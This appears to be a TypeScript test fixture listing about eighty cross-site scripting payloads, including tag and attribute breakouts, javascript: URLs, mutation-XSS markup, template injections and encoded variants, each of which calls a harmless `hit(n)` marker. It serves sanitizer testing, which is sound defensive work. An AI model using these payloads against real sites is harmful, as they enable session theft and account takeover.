/**
 * Texts that become scripts wherever somebody puts them into a page as markup, an address, a style or a template.
 * Each calls `hit(number)`, which a page under test defines.
 */
const hit = (number: number) => `hit(${number})`;

const SHAPES: ((call: string) => string)[] = [
  // Scripts.
  (call) => `<script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `<SCRIPT SRC="data:text/javascript,${call}"></SCRIPT>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script/x>${call}</script/x>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:,${call}"/></svg>`,
  // Handlers of events.
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x:x onerror="${call}"//`,
  (call) => `<image href=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<body onload=${call}>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<p onpointerover=${call} style=position:fixed;inset:0>`,
  (call) => `<a tabindex=1 onfocus=${call} autofocus>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<object data=x onerror=${call}>`,
  (call) => `<dialog open onanimationstart=${call}>`,
  (call) => `<div popover ontoggle=${call}>`,
  (call) => `<xss contenteditable autofocus onfocus=${call}>`,
  // Out of an attribute, a title, a comment, a text box.
  (call) => `"><svg onload=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `" onmouseover="${call}" x="`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `--><img src=x onerror=${call}>`,
  (call) => `]]><svg onload=${call}>`,
  (call) => `</title><svg onload=${call}>`,
  (call) => `</textarea><img src=x onerror=${call}>`,
  (call) => `</style><svg onload=${call}>`,
  (call) => `</text></svg><svg onload=${call}>`,
  // Addresses.
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}//`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href="java&#9;script:${call}">x</a>`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `<a href="data:text/html,<script>${call}</script>">x</a>`,
  (call) => `<form action="javascript:${call}"><button>x</form>`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;javascript:${call}">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe srcdoc="&lt;img src onerror=parent.${call}&gt;">`,
  (call) => `<img srcset="x 1x" onerror=${call}>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg onload=${call}>"/>`,
  (call) => `<svg><a href="javascript:${call}"><text>x</text></a></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  // Markup that becomes another when it is written down and read again.
  (call) => `<noscript><p id="</noscript><img src=x onerror=${call}>">`,
  (call) => `<math><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<select><noembed></select><img src=x onerror=${call}>`,
  // Templates, markdown, styles.
  (call) => `{{constructor.constructor("${call}")()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `[x](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `<style>@import "javascript:${call}"</style>`,
  (call) => `<p style="background:url(javascript:${call})">`,
  (call) => `</p style=animation:x onanimationend=${call}>`,
  // Written otherwise.
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `%3Csvg%20onload%3D${call}%3E`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  (call) => `<im\u200bg src=x onerror=${call}>`,
  (call) => `<img\u3000src=x onerror=${call}>`,
  (call) => `\u00ab<svg onload=${call}>\u00bb`,
  (call) => `\u2060<img src=x onerror=${call}>`,
];

export const PAYLOADS: readonly string[] = SHAPES.map((shape, number) => shape(hit(number)));

/** All payloads, in as few texts as fields of this length need. Lengths count code points; all of ours are single units. */
export function packed(max: number): string[] {
  const texts: string[] = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= max)
      texts[texts.length - 1] += ` ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
